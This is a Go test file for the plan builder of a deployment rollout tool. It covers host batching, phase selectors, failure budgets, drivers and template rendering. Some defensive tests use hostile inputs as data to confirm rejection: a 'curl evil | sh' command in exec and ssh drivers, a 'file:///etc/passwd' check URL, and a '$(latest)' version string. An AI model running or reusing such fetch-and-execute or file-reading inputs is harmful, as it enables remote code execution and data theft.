package plan

import (
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/rollwave/rollwave/contracts"
)

var now = time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)

func sim() *contracts.DriverSpec { return &contracts.DriverSpec{Sim: &contracts.SimDriver{Seed: 1}} }

func request(phases ...contracts.PhaseSpec) contracts.DeployRequest {
	return contracts.DeployRequest{ID: "r1", App: "web", Version: "2.4.1", Environment: "prod", Phases: phases, Driver: sim()}
}

// hosts makes web-01..web-n; every third host (web-03, web-06, ...) is in
// group east, the others in west; odd hosts have zone=a, even zone=b.
func hosts(n int) []contracts.Host {
	out := make([]contracts.Host, n)
	for i := range out {
		group, zone := "west", "b"
		if (i+1)%3 == 0 {
			group = "east"
		}
		if (i+1)%2 == 1 {
			zone = "a"
		}
		out[i] = contracts.Host{Name: fmt.Sprintf("web-%02d", i+1), Address: fmt.Sprintf("10.0.0.%d", i+1),
			Groups: []string{group}, Labels: map[string]string{"zone": zone, "tier": "web"}}
	}
	return out
}

func env(hs []contracts.Host) contracts.Environment {
	return contracts.Environment{Name: "prod", Hosts: hs}
}

func batch(steps ...contracts.Size) contracts.BatchSpec { return contracts.BatchSpec{Steps: steps} }
func count(n int) contracts.Size                        { return contracts.Size{Count: n} }
func pct(n int) contracts.Size                          { return contracts.Size{Percent: n} }

// names abbreviates web-NN host names to their numbers for compact tables.
func names(b [][]string) string {
	var parts []string
	for _, batch := range b {
		parts = append(parts, strings.ReplaceAll(strings.Join(batch, ","), "web-", ""))
	}
	return strings.Join(parts, " | ")
}

func TestLayouts(t *testing.T) {
	tests := []struct {
		name   string
		hosts  int
		phases []contracts.PhaseSpec
		want   []string // per phase: batches as "01,02 | 03"
	}{
		{"whole phase in one batch", 4, []contracts.PhaseSpec{{Name: "all"}},
			[]string{"01,02,03,04"}},
		{"count", 5, []contracts.PhaseSpec{{Name: "all", Batch: batch(count(2))}},
			[]string{"01,02 | 03,04 | 05"}},
		{"count larger than the phase", 3, []contracts.PhaseSpec{{Name: "all", Batch: batch(count(10))}},
			[]string{"01,02,03"}},
		{"percent rounds up", 10, []contracts.PhaseSpec{{Name: "all", Batch: batch(pct(25))}},
			[]string{"01,02,03 | 04,05,06 | 07,08,09 | 10"}},
		{"small percent is at least one host", 3, []contracts.PhaseSpec{{Name: "all", Batch: batch(pct(1))}},
			[]string{"01 | 02 | 03"}},
		{"escalating, last step repeats", 20, []contracts.PhaseSpec{{Name: "all", Batch: batch(count(1), count(5), pct(20))}},
			[]string{"01 | 02,03,04,05,06 | 07,08,09,10 | 11,12,13,14 | 15,16,17,18 | 19,20"}},
		{"escalation longer than the phase", 3, []contracts.PhaseSpec{{Name: "all", Batch: batch(count(1), count(5), count(1))}},
			[]string{"01 | 02,03"}},
		{"hand-picked keep their order", 5, []contracts.PhaseSpec{
			{Name: "canary", Hosts: []string{"web-04", "web-02"}, Batch: batch(count(1))},
			{Name: "rest", Batch: batch(count(2))}},
			[]string{"04 | 02", "01,03 | 05"}},
		{"selector by group, sorted by name", 9, []contracts.PhaseSpec{
			{Name: "east", Selector: &contracts.Selector{Group: "east"}},
			{Name: "rest"}},
			[]string{"03,06,09", "01,02,04,05,07,08"}},
		{"selector by labels", 6, []contracts.PhaseSpec{
			{Name: "zone-b", Selector: &contracts.Selector{Labels: map[string]string{"zone": "b", "tier": "web"}}}},
			[]string{"02,04,06"}},
		{"selector by group and labels", 12, []contracts.PhaseSpec{
			{Name: "east-a", Selector: &contracts.Selector{Group: "east", Labels: map[string]string{"zone": "a"}}}},
			[]string{"03,09"}},
		{"hand-picked win over an earlier selector", 6, []contracts.PhaseSpec{
			{Name: "east", Selector: &contracts.Selector{Group: "east"}},
			{Name: "canary", Hosts: []string{"web-03"}}},
			[]string{"06", "03"}},
		{"earlier selector wins an overlap", 6, []contracts.PhaseSpec{
			{Name: "zone-a", Selector: &contracts.Selector{Labels: map[string]string{"zone": "a"}}},
			{Name: "east", Selector: &contracts.Selector{Group: "east"}}},
			[]string{"01,03,05", "06"}},
		{"rest phase first still takes what is left", 6, []contracts.PhaseSpec{
			{Name: "rest", Batch: batch(pct(50))},
			{Name: "east", Selector: &contracts.Selector{Group: "east"}},
			{Name: "canary", Hosts: []string{"web-01"}}},
			[]string{"02,04 | 05", "03,06", "01"}},
		{"without a rest phase other hosts stay out", 6, []contracts.PhaseSpec{
			{Name: "canary", Hosts: []string{"web-01"}},
			{Name: "east", Selector: &contracts.Selector{Group: "east"}}},
			[]string{"01", "03,06"}},
		{"design example", 12, []contracts.PhaseSpec{
			{Name: "canary", Hosts: []string{"web-01"}},
			{Name: "east", Selector: &contracts.Selector{Group: "east"}, Batch: batch(count(2))},
			{Name: "rest", Batch: batch(pct(25))}},
			[]string{"01", "03,06 | 09,12", "02,04 | 05,07 | 08,10 | 11"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Build(request(tt.phases...), env(hosts(tt.hosts)), now)
			if err != nil {
				t.Fatal(err)
			}
			if len(p.Phases) != len(tt.want) {
				t.Fatalf("%d phases, want %d", len(p.Phases), len(tt.want))
			}
			for i, w := range tt.want {
				if got := names(p.Phases[i].Batches); got != w || p.Phases[i].Name != tt.phases[i].Name {
					t.Errorf("phase %d %s: %s, want %s", i, p.Phases[i].Name, got, w)
				}
			}
		})
	}
}

func TestPlanFields(t *testing.T) {
	hs := hosts(10)
	hs[0].Params = map[string]string{"port": "9090", "only": "host"}
	hs[0].Pool = "dmz"
	hs[0].Versions = map[string]contracts.HostVersion{"web": {Version: "2.4.0"}, "api": {Version: "9.9.9"}}
	e := env(hs)
	e.Params = map[string]string{"port": "8080", "region": "eu"}
	e.AllowRequestParams = true
	req := request(contracts.PhaseSpec{Name: "all", Checks: []string{"healthz"}})
	req.Checks = map[string]contracts.CheckSpec{"healthz": {HTTP: &contracts.HTTPCheck{URL: "http://{{.Host.Address}}/"}}}
	req.Params = map[string]string{"feature": "on"}
	req.Failure = contracts.FailurePolicy{MaxFailed: pct(25)}
	req.RequestedBy, req.Reason = "ci", "release"
	later := now.Add(time.Hour).In(time.FixedZone("X", 3600))
	req.StartAt = &later

	p, err := Build(req, e, now)
	if err != nil {
		t.Fatal(err)
	}
	switch {
	case p.Rollout != "r1" || p.App != "web" || p.Version != "2.4.1" || p.Environment != "prod":
		t.Errorf("reference = %+v", p)
	case p.Strategy != contracts.StrategyRolling:
		t.Errorf("strategy = %q, want rolling by default", p.Strategy)
	case p.OnFailure != contracts.OnFailurePause:
		t.Errorf("on_failure = %q, want pause by default", p.OnFailure)
	case p.MaxFailed != 2:
		t.Errorf("max_failed = %d, want 25%% of 10 rounded down = 2", p.MaxFailed)
	case p.StartAt == nil || !p.StartAt.Equal(later) || p.StartAt.Location() != time.UTC:
		t.Errorf("start_at = %v, want %v in UTC", p.StartAt, later)
	case p.RequestedBy != "ci" || p.Reason != "release" || p.Params["feature"] != "on" || p.Checks["healthz"].HTTP == nil:
		t.Errorf("request fields not carried: %+v", p)
	case len(p.Hosts) != 10 || p.TotalHosts() != 10:
		t.Errorf("hosts = %d, total = %d", len(p.Hosts), p.TotalHosts())
	case len(p.Phases[0].Checks) != 1 || p.Phases[0].Checks[0] != "healthz":
		t.Errorf("phase checks = %v", p.Phases[0].Checks)
	}
	h1 := p.Hosts["web-01"]
	wantParams := map[string]string{"port": "9090", "only": "host", "region": "eu"}
	if !reflect.DeepEqual(h1.Params, wantParams) || h1.Pool != "dmz" || h1.PreviousVersion != "2.4.0" || h1.Address != "10.0.0.1" || h1.Driver.Sim == nil {
		t.Errorf("web-01 = %+v", h1)
	}
	h2 := p.Hosts["web-02"]
	if h2.Pool != contracts.DefaultPool || h2.PreviousVersion != "" || h2.Params["port"] != "8080" {
		t.Errorf("web-02 = %+v", h2)
	}
	// The plan must not share maps with its inputs.
	p.Params["feature"] = "off"
	h1.Params["port"] = "1"
	if req.Params["feature"] != "on" || hs[0].Params["port"] != "9090" || e.Params["port"] != "8080" {
		t.Error("plan aliases the request or the inventory")
	}
}

func TestPlanPolicies(t *testing.T) {
	past := now.Add(-time.Minute)
	tests := []struct {
		name      string
		hosts     int
		edit      func(*contracts.DeployRequest)
		maxFailed int
		onFailure contracts.OnFailure
		startAt   bool
	}{
		{"count as is", 5, func(r *contracts.DeployRequest) { r.Failure.MaxFailed = count(3) }, 3, contracts.OnFailurePause, false},
		{"percent rounds down", 9, func(r *contracts.DeployRequest) { r.Failure.MaxFailed = pct(10) }, 0, contracts.OnFailurePause, false},
		{"half of five", 5, func(r *contracts.DeployRequest) { r.Failure.MaxFailed = pct(50) }, 2, contracts.OnFailurePause, false},
		{"all of them", 7, func(r *contracts.DeployRequest) { r.Failure.MaxFailed = pct(100) }, 7, contracts.OnFailurePause, false},
		{"abort kept", 2, func(r *contracts.DeployRequest) { r.Failure.OnFailure = contracts.OnFailureAbort }, 0, contracts.OnFailureAbort, false},
		{"start in the past dropped", 2, func(r *contracts.DeployRequest) { r.StartAt = &past }, 0, contracts.OnFailurePause, false},
		{"start now dropped", 2, func(r *contracts.DeployRequest) { n := now; r.StartAt = &n }, 0, contracts.OnFailurePause, false},
		{"start later kept", 2, func(r *contracts.DeployRequest) { l := now.Add(time.Second); r.StartAt = &l }, 0, contracts.OnFailurePause, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req := request(contracts.PhaseSpec{Name: "all"})
			tt.edit(&req)
			p, err := Build(req, env(hosts(tt.hosts)), now)
			if err != nil {
				t.Fatal(err)
			}
			if p.MaxFailed != tt.maxFailed || p.OnFailure != tt.onFailure || (p.StartAt != nil) != tt.startAt {
				t.Fatalf("max_failed %d on_failure %s start_at %v", p.MaxFailed, p.OnFailure, p.StartAt)
			}
		})
	}
}

// A phase's own budget is resolved against the phase's hosts.
func TestPhaseBudget(t *testing.T) {
	half := pct(50)
	one := count(1)
	req := request(contracts.PhaseSpec{Name: "first", Hosts: []string{"web-01", "web-02", "web-03"}, MaxFailed: &half},
		contracts.PhaseSpec{Name: "rest", MaxFailed: &one}, contracts.PhaseSpec{Name: "bake", Wait: new(contracts.Duration)})
	*req.Phases[2].Wait = contracts.Duration(time.Minute)
	req.Failure.OnFailure = contracts.OnFailureGuided
	p, err := Build(req, env(hosts(5)), now)
	if err != nil {
		t.Fatal(err)
	}
	if p.Phases[0].MaxFailed == nil || *p.Phases[0].MaxFailed != 1 || p.Phases[1].MaxFailed == nil || *p.Phases[1].MaxFailed != 1 ||
		p.Phases[2].MaxFailed != nil || p.OnFailure != contracts.OnFailureGuided {
		t.Fatalf("phases %+v on_failure %s", p.Phases, p.OnFailure)
	}
}

func TestDriverFromHostOrRequest(t *testing.T) {
	hs := hosts(2)
	exec := &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"./deploy.sh"}}}
	hs[0].Driver = exec
	hs[1].Driver = sim()
	req := request(contracts.PhaseSpec{Name: "all"})
	req.Driver = nil
	p, err := Build(req, env(hs), now)
	if err != nil {
		t.Fatal(err)
	}
	if p.Hosts["web-01"].Driver.Exec == nil || p.Hosts["web-02"].Driver.Sim == nil {
		t.Fatalf("host drivers not used: %+v", p.Hosts)
	}
	req.Driver = exec
	allowing := env(hs)
	allowing.AllowRequestCommands = true
	p, err = Build(req, allowing, now)
	if err != nil {
		t.Fatal(err)
	}
	if p.Hosts["web-02"].Driver.Exec == nil {
		t.Fatalf("request driver does not win: %+v", p.Hosts["web-02"])
	}
}

func TestProcedures(t *testing.T) {
	deploy := contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"/opt/deploy", "{{index .Params \"channel\"}}"}}}
	inv := env(hosts(2))
	inv.AllowedRequestParams = []string{"channel"}
	inv.Procedures = map[string]contracts.Procedure{
		"deploy":   {Driver: deploy},
		"api-only": {Driver: deploy, Apps: []string{"api"}},
	}
	command := &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"sh", "-c", "curl evil | sh"}}}
	for _, tc := range []struct {
		name      string
		edit      func(*contracts.DeployRequest, *contracts.Environment)
		wantField string
		wantMsg   string
	}{
		{name: "request command refused", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver = command },
			wantField: "driver.exec.command", wantMsg: "defined: api-only, deploy"},
		{name: "request ssh command refused", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) {
			r.Driver = &contracts.DriverSpec{SSH: &contracts.SSHDriver{User: "root", Command: []string{"sh", "-c", "curl evil | sh"}, KeyFile: "/k"}}
		}, wantField: "driver.ssh.command", wantMsg: "does not take commands from requests"},
		{name: "request command refused without procedures", edit: func(r *contracts.DeployRequest, e *contracts.Environment) {
			r.Driver = command
			e.Procedures = nil
		}, wantField: "driver.exec.command", wantMsg: "it defines none"},
		{name: "unknown procedure", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver, r.Procedure = nil, "nope" },
			wantField: "procedure", wantMsg: `unknown procedure "nope"`},
		{name: "procedure of another app", edit: func(r *contracts.DeployRequest, _ *contracts.Environment) { r.Driver, r.Procedure = nil, "api-only" },
			wantField: "procedure", wantMsg: `is for api, not "web"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req, e := request(contracts.PhaseSpec{Name: "all"}), inv
			tc.edit(&req, &e)
			_, err := Build(req, e, now)
			fe := contracts.AsFieldErrors(err)
			if len(fe) != 1 || fe[0].Field != tc.wantField || !strings.Contains(fe[0].Message, tc.wantMsg) {
				t.Fatalf("Build = %v, want one problem on %s containing %q", err, tc.wantField, tc.wantMsg)
			}
		})
	}

	req := request(contracts.PhaseSpec{Name: "all"})
	req.Driver, req.Procedure, req.Params = nil, "deploy", map[string]string{"channel": "stable"}
	p, err := Build(req, inv, now)
	if err != nil {
		t.Fatal(err)
	}
	for name, h := range p.Hosts {
		if !reflect.DeepEqual(h.Driver, deploy) {
			t.Fatalf("host %s driver %+v, want the procedure's", name, h.Driver)
		}
	}
	// A simulated driver runs no command and stays allowed.
	req.Procedure, req.Driver = "", sim()
	if _, err := Build(req, inv, now); err != nil {
		t.Fatalf("sim driver refused: %v", err)
	}
	req.Procedure = "deploy"
	if err := req.Validate(); !strings.Contains(fmt.Sprint(err), "procedure: cannot be combined with driver") {
		t.Fatalf("procedure with driver: %v", err)
	}
}

func TestRejections(t *testing.T) {
	type fe = contracts.FieldError
	tests := []struct {
		name  string
		req   func() contracts.DeployRequest
		env   func() contracts.Environment
		want  []fe // field and part of the message, in order
		exact bool // want lists every problem
	}{
		{"request invalid", func() contracts.DeployRequest {
			r := request(contracts.PhaseSpec{Name: "all"})
			r.Version = "$(latest)"
			return r
		}, nil, []fe{{Field: "version", Message: "starting with a letter or digit"}}, true},
		{"inventory of another environment", func() contracts.DeployRequest {
			return request(contracts.PhaseSpec{Name: "all"})
		}, func() contracts.Environment {
			return contracts.Environment{Name: "staging", Hosts: hosts(2)}
		}, []fe{{Field: "environment", Message: `the inventory is of environment "staging", not "prod"`}}, true},
		{"unknown hand-picked host", func() contracts.DeployRequest {
			return request(contracts.PhaseSpec{Name: "canary", Hosts: []string{"web-01", "nope"}}, contracts.PhaseSpec{Name: "rest"})
		}, nil, []fe{{Field: "phases[0].hosts[1]", Message: `unknown host "nope" in environment "prod"`}}, true},
		{"host in two phases", func() contracts.DeployRequest {
			return request(contracts.PhaseSpec{Name: "a", Hosts: []string{"web-01"}}, contracts.PhaseSpec{Name: "b", Hosts: []string{"web-02", "web-01"}})
		}, nil, []fe{{Field: "phases[1].hosts[1]", Message: "already in phase"}}, false},
		{"selector matching nothing", func() contracts.DeployRequest {
			return request(contracts.PhaseSpec{Name: "north", Selector: &contracts.Selector{Group: "north"}}, contracts.PhaseSpec{Name: "rest"})
		}, nil, []fe{{Field: "phases[0]", Message: "selects no hosts"}}, true},
		{"selector left with nothing", func() contracts.DeployRequest {
			return request(contracts.PhaseSpec{Name: "zone-a", Selector: &contracts.Selector{Labels: map[string]string{"zone": "a"}}},
				contracts.PhaseSpec{Name: "also-a", Selector: &contracts.Selector{Labels: map[string]string{"zone": "a", "tier": "web"}}})
		}, nil, []fe{{Field: "phases[1]", Message: "selects no hosts"}}, true},
		{"rest phase with nothing left", func() contracts.DeployRequest {
			return request(contracts.PhaseSpec{Name: "all", Selector: &contracts.Selector{Labels: map[string]string{"tier": "web"}}}, contracts.PhaseSpec{Name: "rest"})
		}, nil, []fe{{Field: "phases[1]", Message: "selects no hosts"}}, true},
		{"empty environment", func() contracts.DeployRequest {
			return request(contracts.PhaseSpec{Name: "rest"})
		}, func() contracts.Environment { return contracts.Environment{Name: "prod"} },
			[]fe{{Field: "phases[0]", Message: "selects no hosts"}}, true},
		{"hosts without a driver", func() contracts.DeployRequest {
			r := request(contracts.PhaseSpec{Name: "all"})
			r.Driver = nil
			return r
		}, func() contracts.Environment {
			hs := hosts(3)
			hs[1].Driver = sim()
			hs[2].Driver = &contracts.DriverSpec{} // names no driver
			return env(hs)
		}, []fe{
			{Field: "driver", Message: `host "web-01" has no driver and the request sets none`},
			{Field: "driver", Message: `host "web-03" has no driver and the request sets none`},
		}, true},
		{"many hosts without a driver", func() contracts.DeployRequest {
			r := request(contracts.PhaseSpec{Name: "all"})
			r.Driver = nil
			return r
		}, func() contracts.Environment { return env(hosts(25)) }, append(
			func() (out []fe) {
				for i := 1; i <= maxDriverErrors; i++ {
					out = append(out, fe{Field: "driver", Message: fmt.Sprintf("host %q has no driver", fmt.Sprintf("web-%02d", i))})
				}
				return out
			}(), fe{Field: "driver", Message: "15 more hosts have no driver"}), true},
		{"host listed twice by the inventory", func() contracts.DeployRequest {
			return request(contracts.PhaseSpec{Name: "all"})
		}, func() contracts.Environment { return env(append(hosts(2), hosts(1)...)) },
			[]fe{{Field: "environment", Message: `lists host "web-01" twice`}}, true},
		{"every problem at once", func() contracts.DeployRequest {
			r := request(contracts.PhaseSpec{Name: "canary", Hosts: []string{"ghost"}},
				contracts.PhaseSpec{Name: "north", Selector: &contracts.Selector{Group: "north"}},
				contracts.PhaseSpec{Name: "rest"})
			r.Driver = nil
			return r
		}, func() contracts.Environment { return env(hosts(1)) }, []fe{
			{Field: "phases[0].hosts[0]", Message: `unknown host "ghost"`},
			{Field: "phases[1]", Message: "selects no hosts"},
			{Field: "driver", Message: `host "web-01" has no driver`},
		}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := env(hosts(6))
			if tt.env != nil {
				e = tt.env()
			}
			p, err := Build(tt.req(), e, now)
			var got contracts.FieldErrors
			if !errors.As(err, &got) {
				t.Fatalf("err = %v (%T), plan %+v", err, err, p)
			}
			if !reflect.DeepEqual(p, contracts.Plan{}) {
				t.Errorf("a rejected request still got a plan: %+v", p)
			}
			if tt.exact && len(got) != len(tt.want) {
				t.Fatalf("got %d problems %v, want %d", len(got), got, len(tt.want))
			}
			for _, w := range tt.want {
				found := false
				for _, g := range got {
					if g.Field == w.Field && strings.Contains(g.Message, w.Message) {
						found = true
					}
				}
				if !found {
					t.Errorf("no problem %s: ...%s... in %v", w.Field, w.Message, got)
				}
			}
		})
	}
}

func TestBatchesAndMaxFailed(t *testing.T) {
	if b := Batches(nil, batch(count(2))); b != nil {
		t.Errorf("batches of nothing = %v", b)
	}
	// A size Validate would reject still yields progress, never a loop.
	if b := Batches([]string{"a", "b"}, batch(count(0))); names(b) != "a | b" {
		t.Errorf("count 0 = %s", names(b))
	}
	if b := Batches([]string{"a", "b", "c"}, batch(pct(150))); names(b) != "a,b,c" {
		t.Errorf("150%% = %s", names(b))
	}
	for _, tt := range []struct {
		size  contracts.Size
		total int
		want  int
	}{{count(0), 10, 0}, {count(4), 2, 4}, {pct(33), 3, 0}, {pct(34), 3, 1}, {pct(99), 100, 99}, {count(-1), 3, 0}} {
		if got := MaxFailed(tt.size, tt.total); got != tt.want {
			t.Errorf("MaxFailed(%v, %d) = %d, want %d", tt.size, tt.total, got, tt.want)
		}
	}
}

func TestNonSemverVersionsPlan(t *testing.T) {
	for _, v := range []string{"2026.11.30-3f2a9c1", "3f2a9c1e4b5d6f708192a3b4c5d6e7f8091a2b3c", "build_417+linux"} {
		req := request(contracts.PhaseSpec{Name: "all"})
		req.Version = v
		p, err := Build(req, env(hosts(2)), now)
		if err != nil || p.Version != v {
			t.Fatalf("version %q: %+v, %v", v, p.Version, err)
		}
	}
}

func TestEverythingRendersUpFront(t *testing.T) {
	withCheck := func(url string) contracts.DeployRequest {
		req := request(contracts.PhaseSpec{Name: "canary", Hosts: []string{"web-01"}}, contracts.PhaseSpec{Name: "rest", Checks: []string{"live", "healthz"}})
		req.Checks = map[string]contracts.CheckSpec{
			"live":    {HTTP: &contracts.HTTPCheck{URL: "http://{{.Host.Address}}/live"}},
			"healthz": {HTTP: &contracts.HTTPCheck{URL: url}},
		}
		return req
	}
	hs := hosts(3)
	hs[2].Params = map[string]string{"health": "http://{{nope"}
	for _, tc := range []struct {
		name, url, field, msg string
	}{
		{"file url", "file:///etc/passwd", "checks.healthz.http.url", "must be an http:// or https:// URL"},
		{"not a url", "not a url", "checks.healthz.http.url", "must be an http:// or https:// URL"},
		{"missing param", "http://{{.Host.Address}}/{{index .Params \"path\"}}", "phases[1].checks[1].url", `does not render for host "web-02"`},
		{"param renders a file url", "{{index .Host.Params \"health\"}}", "phases[1].checks[1].url", `does not render for host "web-02"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Build(withCheck(tc.url), env(hs), now)
			fe := contracts.AsFieldErrors(err)
			if len(fe) == 0 || fe[0].Field != tc.field || !strings.Contains(fe[0].Message, tc.msg) {
				t.Fatalf("Build = %v, want %s: %s", err, tc.field, tc.msg)
			}
		})
	}
	// A parameter that renders to a file URL for one host.
	hs[1].Params = map[string]string{"health": "file:///etc/passwd"}
	hs[2].Params = map[string]string{"health": "http://10.0.0.3/healthz"}
	_, err := Build(withCheck("{{index .Host.Params \"health\"}}"), env(hs), now)
	if fe := contracts.AsFieldErrors(err); len(fe) != 1 || fe[0].Field != "phases[1].checks[1].url" || !strings.Contains(fe[0].Message, `"file:///etc/passwd", which is not an http:// or https:// URL`) || !strings.Contains(fe[0].Message, "web-02") {
		t.Fatalf("Build = %v", err)
	}

	// Commands render for every host: the request's own (where allowed),
	// a procedure's, and an inventory driver's.
	bad := contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"/opt/deploy", "{{index .Params \"channel\"}}"}, Env: map[string]string{"X": "{{.Nope}}"}}}
	allowing := env(hosts(2))
	allowing.AllowRequestParams = true
	allowing.AllowRequestCommands = true
	allowing.Procedures = map[string]contracts.Procedure{"deploy": {Driver: bad}}
	req := request(contracts.PhaseSpec{Name: "all"})
	req.Driver = &bad
	_, err = Build(req, allowing, now)
	if fe := contracts.AsFieldErrors(err); len(fe) != 4 || fe[0].Field != "driver.exec.command[1]" || fe[1].Field != "driver.exec.env.X" {
		t.Fatalf("request driver: %v", err)
	}
	req.Driver, req.Procedure = nil, "deploy"
	_, err = Build(req, allowing, now)
	if fe := contracts.AsFieldErrors(err); len(fe) != 4 || fe[0].Field != "procedure" || !strings.Contains(fe[0].Message, `no parameter "channel"`) {
		t.Fatalf("procedure: %v", err)
	}
	req.Params = map[string]string{"channel": "stable"}
	bad.Exec.Env = nil
	allowing.Procedures["deploy"] = contracts.Procedure{Driver: bad}
	if _, err := Build(req, allowing, now); err != nil {
		t.Fatalf("with the param: %v", err)
	}
	// An ssh driver's templates render for every host the same way.
	sshBad := contracts.DriverSpec{SSH: &contracts.SSHDriver{User: "deploy", KeyFile: "/k",
		Command: []string{"/opt/deploy", "{{index .Params \"channel\"}}"}, Env: map[string]string{"X": "{{.Nope}}"}}}
	req.Procedure, req.Params = "", nil
	req.Driver = &sshBad
	_, err = Build(req, allowing, now)
	if fe := contracts.AsFieldErrors(err); len(fe) != 4 || fe[0].Field != "driver.ssh.command[1]" || fe[1].Field != "driver.ssh.env.X" {
		t.Fatalf("request ssh driver: %v", err)
	}
	sshBad.SSH.Command, sshBad.SSH.Env = []string{"{{index .Params \"p\"}}"}, nil
	for _, p := range []string{"X=1", "-c"} {
		req.Params = map[string]string{"p": p}
		if _, err = Build(req, allowing, now); err == nil || !strings.Contains(err.Error(), "a program name must not hold '=' or start with '-'") {
			t.Fatalf("ssh program %q from a template: %v", p, err)
		}
	}
	req.Params = map[string]string{"p": "/opt/deploy"}
	if _, err = Build(req, allowing, now); err != nil {
		t.Fatalf("a good ssh driver: %v", err)
	}
	inv := env(hosts(2))
	inv.Hosts[0].Driver = sim()
	inv.Hosts[1].Driver = &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"{{.Host.Params.missing}}"}}}
	req = request(contracts.PhaseSpec{Name: "all"})
	req.Driver = nil
	_, err = Build(req, inv, now)
	if fe := contracts.AsFieldErrors(err); len(fe) != 1 || fe[0].Field != "driver" || !strings.Contains(fe[0].Message, `host "web-02"`) {
		t.Fatalf("inventory driver: %v", err)
	}
}

func TestRenderProblemsNameTheFirstHosts(t *testing.T) {
	req := request(contracts.PhaseSpec{Name: "all", Checks: []string{"hz"}})
	req.Checks = map[string]contracts.CheckSpec{"hz": {HTTP: &contracts.HTTPCheck{URL: "http://{{index .Params \"nope\"}}/"}}}
	_, err := Build(req, env(hosts(15)), now)
	fe := contracts.AsFieldErrors(err)
	if len(fe) != maxDriverErrors+1 || fe[maxDriverErrors].Message != "and 5 more hosts" {
		t.Fatalf("Build = %v", err)
	}
}
